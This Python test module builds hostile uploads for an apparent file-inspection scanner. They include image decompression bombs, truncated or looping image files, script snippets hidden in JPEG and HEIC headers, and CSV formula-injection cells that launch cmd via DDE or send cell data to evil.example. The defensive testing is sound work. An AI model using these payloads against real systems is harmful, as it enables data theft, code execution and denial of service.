"""Hostile pictures and texts, and the whole collection."""

import struct
import zlib
from collections.abc import Callable

from PIL import Image

from tests.inspection import good
from tests.inspection.hostile import Hostile, R, case, of_names, of_types
from tests.inspection.hostile_office import of_office
from tests.inspection.hostile_pdf import of_pdf

MIB = 1024 * 1024
PNG = b"\x89PNG\r\n\x1a\n"


def chunk(name: bytes, content: bytes) -> bytes:
    return struct.pack("!I", len(content)) + name + content + struct.pack("!I", zlib.crc32(name + content))


def png_of(width: int, height: int, data: bytes, *more: bytes, bits: int = 8, colour: int = 2) -> bytes:
    head = chunk(b"IHDR", struct.pack("!IIBBBBB", width, height, bits, colour, 0, 0, 0))
    return PNG + head + b"".join(more) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def zeros(size: int) -> bytes:
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(bytes(min(MIB, size - at))) for at in range(0, size, MIB)) + packer.flush()


def sized(content: bytes, width: int, height: int) -> bytes:
    """A JPEG that says it is this large."""
    at = content.index(b"\xff\xc0") + 5
    return content[:at] + struct.pack("!HH", height, width) + content[at + 4 :]


def looped_tiff() -> bytes:
    """The last page points back to the first."""
    content = bytearray(good.tiff(2))
    first = struct.unpack_from("<I", content, 4)[0]
    count = struct.unpack_from("<H", content, first)[0]
    second = struct.unpack_from("<I", content, first + 2 + 12 * count)[0]
    count = struct.unpack_from("<H", content, second)[0]
    struct.pack_into("<I", content, second + 2 + 12 * count, first)
    return bytes(content)


def tiff_of(width: int, height: int) -> bytes:
    fields = [
        (256, 4, width),
        (257, 4, height),
        (258, 3, 8),
        (259, 3, 1),
        (262, 3, 1),
        (273, 4, 8),
        (278, 4, height),
        (279, 4, 9),
    ]
    entries = b"".join(struct.pack("<HHII", tag, type_, 1, value) for tag, type_, value in fields)
    return b"II*\x00" + struct.pack("<I", 24) + bytes(16) + struct.pack("<H", len(fields)) + entries + bytes(4)


def moving_png() -> bytes:
    frames = [Image.new("RGB", (20, 20), colour) for colour in ("red", "blue")]
    return good.saved(frames[0], "PNG", save_all=True, append_images=frames[1:])


def heic_of(width: int, height: int) -> bytes:
    content = good.heic()
    at = content.index(b"ispe") + 8
    return content[:at] + struct.pack("!II", width, height) + content[at + 8 :]


def pictures() -> list[Hostile]:
    jpeg, png, heic = good.jpeg(), good.png(), good.heic()
    wide = zeros(4 * MIB)
    made: dict[str, tuple[str, Callable[[], bytes], tuple[R, ...]]] = {
        "png-flood": ("a.png", lambda: png_of(60_000, 60_000, wide), (R.TOO_MANY_PIXELS,)),
        "png-flood-side": ("a.png", lambda: png_of(2_000_000, 2, wide), (R.TOO_MANY_PIXELS,)),
        "png-flood-bits": ("a.png", lambda: png_of(31_000, 31_000, wide, bits=1, colour=0), (R.TOO_MANY_PIXELS,)),
        "png-endless": ("a.png", lambda: png_of(2**31 - 1, 2**31 - 1, wide), (R.TOO_MANY_PIXELS, R.DAMAGED)),
        "png-none": ("a.png", lambda: png_of(0, 0, wide), (R.DAMAGED,)),
        "png-words": (
            "a.png",
            lambda: png_of(9, 9, zeros(300), chunk(b"zTXt", b"a\0\0" + zeros(80 * MIB))),
            (R.DAMAGED, R.TOO_MUCH),
        ),
        "png-cut": ("a.png", lambda: png[: len(png) // 2], (R.DAMAGED,)),
        "png-head": ("a.png", lambda: PNG, (R.DAMAGED,)),
        "png-checksum": ("a.png", lambda: png.replace(b"IHDR\x00\x00\x01\x40", b"IHDR\x00\x00\x01\x41"), (R.DAMAGED,)),
        "png-moving": ("a.png", moving_png, (R.MOVING,)),
        "jpeg-flood": ("a.jpg", lambda: sized(jpeg, 65_500, 65_500), (R.TOO_MANY_PIXELS,)),
        "jpeg-flood-near": ("a.jpg", lambda: sized(jpeg, 16_000, 15_000), (R.TOO_MANY_PIXELS,)),
        "jpeg-cut": ("a.jpg", lambda: jpeg[: len(jpeg) // 2], (R.DAMAGED,)),
        "jpeg-head": ("a.jpg", lambda: jpeg[:30], (R.DAMAGED,)),
        "jpeg-page": ("a.jpg", lambda: b"\xff\xd8\xff\xe0<script>alert(1)</script>", (R.DAMAGED,)),
        "tiff-flood": ("a.tif", lambda: tiff_of(60_000, 60_000), (R.TOO_MANY_PIXELS,)),
        "tiff-cut": ("a.tif", lambda: good.tiff()[:4000], (R.DAMAGED,)),
        "tiff-nowhere": ("a.tif", lambda: b"II*\x00\xff\xff\xff\x7f" + bytes(40), (R.DAMAGED,)),
        "tiff-lies": ("a.tif", lambda: tiff_of(3_000, 3_000), (R.DAMAGED,)),
        "heic-cut": ("a.heic", lambda: heic[: len(heic) // 2], (R.DAMAGED,)),
        "heic-head": ("a.heic", lambda: heic[:40], (R.DAMAGED,)),
        "heic-flood": ("a.heic", lambda: heic_of(60_000, 60_000), (R.TOO_MANY_PIXELS, R.DAMAGED)),
        "heic-page": ("a.heic", lambda: heic[:24] + b"<script>alert(1)</script>", (R.DAMAGED,)),
    }
    slow = case("tiff-many", "a.tif", lambda: many_pages(2_100), R.TOO_MUCH, slow=True)
    return [*(case(id_, name, make, *reasons) for id_, (name, make, reasons) in made.items()), slow]


def many_pages(count: int) -> bytes:
    page = Image.new("1", (8, 8))
    return good.saved(page, "TIFF", save_all=True, append_images=[page] * (count - 1))


def texts() -> list[Hostile]:
    formulas = {
        "command": "=cmd|'/C calc'!A0",
        "command-plus": "+cmd|'/C calc'!A0",
        "command-at": "@SUM(1+9)*cmd|' /C calc'!A0",
        "command-quoted": "\"=cmd|'/C calc'!A0\"",
        "command-tab": "\t=cmd|'/C calc'!A0",
        "service": '=WEBSERVICE("https://evil.example")',
        "link": '=HYPERLINK("https://evil.example?"&A1;"klik")',
        "import": '=IMPORTXML("https://evil.example";"//a")',
        "dde": '=DDE("cmd";"/C calc";"x")',
        "later": "a;b;-2+3+cmd|' /C calc'!A0",
    }
    return [
        *(
            case(f"csv-{id_}", "saldo.csv", f"datum;bedrag\n2026;{cell}\n".encode(), R.FORMULA)
            for id_, cell in formulas.items()
        ),
        case("txt-nul", "a.txt", b"tekst\x00tekst", R.MISMATCH, R.UNKNOWN),
        case("txt-bell", "a.txt", b"tekst\x07tekst", R.MISMATCH),
        case("txt-escape", "a.txt", b"\x1b]0;titel\x07tekst", R.MISMATCH),
        case("txt-noise", "a.txt", bytes(range(1, 256)) * 9, R.MISMATCH),
        case("txt-late-nul", "a.txt", b"tekst " * 5_000 + b"\x00MZ", R.MISMATCH),
        case("txt-odd-wide", "a.txt", b"\xff\xfet\x00e\x00k", R.MISMATCH),
        case("txt-large", "a.txt", lambda: b"tekst\n" * (4 * MIB), R.TOO_MUCH, slow=True),
    ]


def all_of_them() -> list[Hostile]:
    found = [*of_types(), *of_names(), *of_pdf(), *of_office(), *pictures(), *texts()]
    assert len({each.id for each in found}) == len(found)
    return found


HOSTILE = all_of_them()
